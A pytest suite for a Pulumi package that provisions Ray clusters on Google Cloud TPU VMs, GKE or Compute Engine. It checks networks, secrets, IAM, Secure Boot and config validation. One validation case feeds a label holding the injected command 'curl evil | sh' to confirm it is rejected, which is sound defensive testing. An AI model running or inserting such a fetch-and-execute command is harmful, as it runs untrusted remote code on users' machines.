"""The Pulumi program beyond the examples: options that change what is created, bad config,
and `TpuRayCluster` used from another Pulumi program."""

from __future__ import annotations

import json

import pulumi
import pytest

from rayslice import spec
from rayslice.infra import TpuRayCluster, TpuRayClusterArgs
from rayslice.infra.mocks import OfflineEngine, run_offline
from rayslice.infra.program import main
from rayslice.names import ATTR_INDEX_CREDENTIALS_SECRET, ATTR_TOKEN_SECRET

NETWORK_TYPES = (
    "gcp:compute/network:Network",
    "gcp:compute/subnetwork:Subnetwork",
    "gcp:compute/router:Router",
    "gcp:compute/routerNat:RouterNat",
)
BASE = {
    "rayslice:platform": "tpu-vm",
    "rayslice:acceleratorType": "v6e-16",
    "rayslice:zone": "us-east5-b",
    "gcp:project": "my-gcp-project",
}


def _run(**overrides: str):
    config = {**BASE, **{f"rayslice:{k}": v for k, v in overrides.items()}}
    return run_offline(lambda: main().exports, config)


def test_existing_network_is_used_as_is():
    run = _run(network="shared-vpc", subnetwork="tpu-subnet")
    types = {r.type for r in run.registrations}
    assert not types & set(NETWORK_TYPES)
    (vm,) = run.of_type("gcp:tpu/v2Vm:V2Vm")
    assert vm.inputs["networkConfig"]["network"] == "shared-vpc"
    assert vm.inputs["networkConfig"]["subnetwork"] == "tpu-subnet"
    assert {fw.inputs["network"] for fw in run.of_type("gcp:compute/firewall:Firewall")} == {"shared-vpc"}


def test_tpu_vm_subnet_has_no_gke_secondary_ranges():
    (subnet,) = _run().of_type("gcp:compute/subnetwork:Subnetwork")
    assert "secondaryIpRanges" not in subnet.inputs


def test_existing_gke_cluster_declares_no_network():
    run = _run(platform="gke", gkeCluster="team-cluster")
    types = {r.type for r in run.registrations}
    assert "rayslice:infra:ClusterNetwork" not in types
    assert not types & set(NETWORK_TYPES)
    assert {p.inputs["cluster"] for p in run.of_type("gcp:container/nodePool:NodePool")} == {"team-cluster"}
    assert run.value["gke_cluster_name"] == "team-cluster"


@pytest.mark.parametrize(
    "overrides, secure_boot",
    [
        ({"acceleratorType": "v2-8", "zone": "us-central1-b"}, {"enableSecureBoot": True}),
        ({}, None),  # v6e: no documented Secure Boot support (see catalog.Generation.shielded_vm)
    ],
    ids=["v2", "v6e"],
)
def test_secure_boot_where_the_generation_allows(overrides, secure_boot):
    (vm,) = _run(**overrides).of_type("gcp:tpu/v2Vm:V2Vm")
    assert vm.inputs.get("shieldedInstanceConfig") == secure_boot


def test_without_token_auth_there_is_no_secret_at_all():
    run = _run(rayAuth="none")
    secrets = [
        r
        for r in run.registrations
        if r.type.startswith(("gcp:secretmanager", "random:index/randomPassword"))
    ]
    assert not secrets
    (vm,) = run.of_type("gcp:tpu/v2Vm:V2Vm")
    assert ATTR_TOKEN_SECRET not in vm.inputs["metadata"]
    assert run.value["ray_token_command"] is None
    roles = {m.inputs["role"] for m in run.of_type("gcp:projects/iAMMember:IAMMember")}
    assert roles == {"roles/logging.logWriter", "roles/monitoring.metricWriter"}


@pytest.mark.parametrize("platform", ["tpu-vm", "compute"])
def test_index_credentials_secret_is_named_to_hosts_and_readable_by_them_only(platform):
    run = _run(
        platform=platform,
        packageIndex="https://pypi.example.com/simple",
        packageIndexCredentialsSecret="pypi-mirror-login",
        allowForeignPackageIndexSecret="true",
    )
    readers = [
        m.inputs
        for m in run.of_type("gcp:secretmanager/secretIamMember:SecretIamMember")
        if m.inputs["secretId"] == "pypi-mirror-login"
    ]
    assert len(readers) == 1
    assert readers[0]["role"] == "roles/secretmanager.secretAccessor"
    assert readers[0]["member"].startswith("serviceAccount:")
    hosts = run.of_type("gcp:tpu/v2Vm:V2Vm") or run.of_type("gcp:compute/instanceTemplate:InstanceTemplate")
    assert hosts and all(
        h.inputs["metadata"][ATTR_INDEX_CREDENTIALS_SECRET] == "pypi-mirror-login" for h in hosts
    )
    assert not any(
        r.type == "gcp:secretmanager/secret:Secret" and r.name.endswith("pypi-mirror-login")
        for r in run.registrations
    )


def test_external_ips_when_asked():
    run = _run(externalIps="true", slices="2", head="vm")
    assert all(
        vm.inputs["networkConfig"]["enableExternalIps"] is True for vm in run.of_type("gcp:tpu/v2Vm:V2Vm")
    )
    instances = run.of_type("gcp:compute/instance:Instance")  # the head VM and the controller VM
    access = {
        i.inputs["metadata"]["rayslice-role"]: i.inputs["networkInterfaces"][0].get("accessConfigs")
        for i in instances
    }
    # The controller VM serves nothing: it never gets one (test_head_identity.py says more).
    assert access == {"head-vm": [{}], "controller-vm": None}


def test_gcp_zone_and_project_fallback():
    run = run_offline(
        lambda: main().exports,
        {"rayslice:acceleratorType": "v5p-16", "gcp:zone": "us-east5-a", "gcp:project": "other-project"},
    )
    (mig,) = run.of_type("gcp:compute/instanceGroupManager:InstanceGroupManager")  # v5p: compute
    assert (mig.inputs["zone"], mig.inputs["project"]) == ("us-east5-a", "other-project")


@pytest.mark.parametrize(
    "overrides, message",
    [
        ({"rayslice:acceleratorType": "v6e-3"}, "unknown accelerator type 'v6e-3'"),
        (
            {"rayslice:acceleratorType": "v5p-16", "rayslice:zone": "us-east5-b"},
            "zone us-east5-b does not offer TPU v5p",
        ),
        ({"rayslice:labels": json.dumps({"team": "x; curl evil | sh"})}, "breaks GCP label rules"),
        ({"rayslice:labels": json.dumps({"Bad Key": "ok"})}, "key 'Bad Key' breaks GCP label rules"),
        ({"rayslice:acceleratorTyp": "v6e-16"}, "did you mean 'acceleratorType'"),
        ({"rayslice:subnetwork": "tpu-subnet"}, "set network to the VPC that holds this subnetwork too"),
        ({"rayslice:platform": "gke", "rayslice:name": "a" * 33}, "shorten name to at most 32 characters"),
        (
            {"rayslice:platform": "gke", "rayslice:gkeCluster": "team", "rayslice:network": "vpc"},
            "network is not used with gkeCluster",
        ),
    ],
)
def test_invalid_config_registers_nothing(overrides, message):
    engine = OfflineEngine()
    with pytest.raises(spec.SpecError) as raised:
        engine.run(main, {**BASE, **overrides})
    assert any(message in problem for problem in raised.value.problems), raised.value.problems
    assert engine.registrations == []


class _Platform(pulumi.ComponentResource):
    """Stands for another team's Pulumi program that embeds a rayslice cluster."""

    def __init__(self, name: str):
        super().__init__("acme:platform:MlPlatform", name)
        cluster_spec = spec.load(
            {
                "name": "ml",
                "acceleratorType": "v5p-16",
                "zone": "us-east5-a",
                "project": "acme-ml-prod",
                "capacity": "spot",
            }
        )
        self.cluster = TpuRayCluster(
            "ml", TpuRayClusterArgs(spec=cluster_spec), pulumi.ResourceOptions(parent=self)
        )
        self.register_outputs({"jobs": self.cluster.jobs_api_address})


def test_imported_by_another_program():
    engine = OfflineEngine()
    outputs = engine.run(lambda: _Platform("acme").cluster.exports, project="acme-infra", stack="prod")
    registrations = engine.registrations
    (cluster,) = [r for r in registrations if r.type == "rayslice:infra:TpuRayCluster"]
    assert "acme:platform:MlPlatform$rayslice:infra:TpuRayCluster::ml" in cluster.urn
    (mig,) = [r for r in registrations if r.type == "gcp:compute/instanceGroupManager:InstanceGroupManager"]
    (template,) = [r for r in registrations if r.type == "gcp:compute/instanceTemplate:InstanceTemplate"]
    configs = [r for r in registrations if r.type == "gcp:compute/perInstanceConfig:PerInstanceConfig"]
    # Target size 0: each per-instance config adds one of the 2 hosts (issue 19).
    assert (mig.inputs["name"], mig.inputs["targetSize"], len(configs), template.inputs["machineType"]) == (
        "ml-slice-0",
        0,
        2,
        "ct5p-hightpu-4t",
    )
    assert template.inputs["scheduling"]["provisioningModel"] == "SPOT"
    assert outputs["slice_names"] == ["ml-slice-0"]
    assert len(outputs["slice_host_ips"]["ml-slice-0"]) == 2
    assert outputs["jobs_api_address"].startswith("http://10.128.")
